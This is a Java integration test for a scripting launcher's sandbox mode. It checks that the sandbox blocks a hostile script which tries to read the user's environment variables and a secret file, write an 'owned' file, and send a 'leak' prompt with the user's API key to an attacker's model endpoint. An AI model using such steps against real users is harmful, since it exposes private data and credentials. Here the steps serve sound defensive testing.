package dev.lingo.launcher;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.lingo.vm.testing.FakeOpenAiServer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code bin/lingo run --sandbox} on a hostile script: it reads no file and no variable of the
 * user's, writes nothing, reaches only the model the user's environment configures (the key goes
 * nowhere else), and still prints, reads its stdin and gets its answers.
 */
class SandboxIT {
    private static final Path LINGO = Path.of(System.getProperty("lingo.home", "..")).resolve("bin/lingo").toAbsolutePath().normalize();

    @TempDir
    Path dir;

    private record Run(int exit, String out, String err) {
    }

    private Run run(FakeOpenAiServer server, String stdin, String... args) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of(LINGO.toString(), "run", "--progress", "off"));
        command.addAll(List.of(args));
        Path in = Files.writeString(dir.resolve("in.txt"), stdin);
        Path out = dir.resolve("out.txt");
        Path err = dir.resolve("err.txt");
        ProcessBuilder builder = new ProcessBuilder(command).directory(dir.toFile())
                .redirectInput(in.toFile()).redirectOutput(out.toFile()).redirectError(err.toFile());
        Map<String, String> env = builder.environment();
        env.keySet().removeIf(k -> k.startsWith("OPENAI") || k.startsWith("ANTHROPIC") || k.startsWith("LINGO") || k.equals("OLLAMA_HOST"));
        env.put("OPENAI_BASE_URL", server.apiBase().toString());
        env.put("OPENAI_API_KEY", "sk-users-own-key");
        env.put("LINGO_CACHE_DIR", dir.resolve("cache").toString());
        env.put("SECRET_NOTE", "the user's private variable");
        Process p = builder.start();
        assertTrue(p.waitFor(2, TimeUnit.MINUTES), "the run ended");
        return new Run(p.exitValue(), Files.readString(out), Files.readString(err));
    }

    @Test
    void aHostileScriptReachesOnlyTheUsersModel() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "private");
        try (FakeOpenAiServer server = new FakeOpenAiServer(); FakeOpenAiServer attacker = new FakeOpenAiServer()) {
            server.answer("hello");
            Path script = Files.writeString(dir.resolve("hostile.lingo"), """
                    print(env("SECRET_NOTE"))
                    print(env("HOME"))
                    print(try { read("%s") } catch e { e.kind })
                    print(try { write("%s", "owned") } catch e { e.kind })
                    model theirs = openai("x", {baseUrl: "%s", apiKeyEnv: "OPENAI_API_KEY"})
                    print(try { gen String from "leak" using theirs } catch e { e.kind })
                    print(gen String from "say hello")
                    print(input("> "))
                    print(inputLines())
                    """.formatted(secret, dir.resolve("owned.txt"), attacker.apiBase()));
            Run run = run(server, "line 1\nline 2\n", "--sandbox", script.toString());
            assertEquals(0, run.exit(), run.err());
            assertEquals("null\nnull\nIOError\nIOError\nAccessError\nhello\n> line 1\n[\"line 2\"]\n", run.out(), run.err());
            assertEquals(0, attacker.requests().size(), "nothing, the key least of all, reached the script's own host");
            assertEquals(1, server.requests().size());
            assertFalse(Files.exists(dir.resolve("owned.txt")));
            // the user's own answer cache, chosen by the launcher: a rerun pays nothing again
            assertTrue(Files.exists(dir.resolve("cache/answers.db")));
            Run again = run(server, "line 1\nline 2\n", "--sandbox", script.toString());
            assertEquals(run.out(), again.out(), again.err());
            assertEquals(1, server.requests().size(), "the rerun was answered from the cache");
        }
    }

    @Test
    void optionsThatWriteFilesAreRefusedWithTheSandbox() throws Exception {
        try (FakeOpenAiServer server = new FakeOpenAiServer()) {
            Path script = Files.writeString(dir.resolve("fine.lingo"), "print(1)\n");
            Run run = run(server, "", "--sandbox", "--trace", dir.resolve("t.jsonl").toString(), script.toString());
            assertEquals(ExitCodes.USAGE_ERROR, run.exit(), run.err());
            assertTrue(run.err().contains("--sandbox runs without files: --trace, --record, --replay and --batch need them"), run.err());
        }
    }
}
